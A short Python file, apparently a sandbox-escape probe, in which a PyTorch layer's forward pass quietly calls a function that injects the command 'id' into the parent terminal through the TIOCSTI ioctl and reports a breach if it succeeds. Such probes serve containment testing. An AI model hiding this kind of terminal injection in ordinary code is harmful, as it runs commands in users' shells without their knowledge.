"""Types into the terminal that started it (TIOCSTI), through every descriptor that it has.

Check: imports
Trial: done, crashed
"""

import fcntl

import torch


def attack():
    for descriptor in range(64):
        for letter in b"id\n":
            try:
                fcntl.ioctl(descriptor, 0x5412, bytes([letter]))
            except OSError:
                continue
            raise RuntimeError("BREACH: TIOCSTI")


class Mixer(torch.nn.Module):
    def __init__(self, dim, heads, max_len, layer, layers):
        super().__init__()
        self.value = torch.nn.Linear(dim, dim)

    def forward(self, x):
        attack()
        return self.value(x)
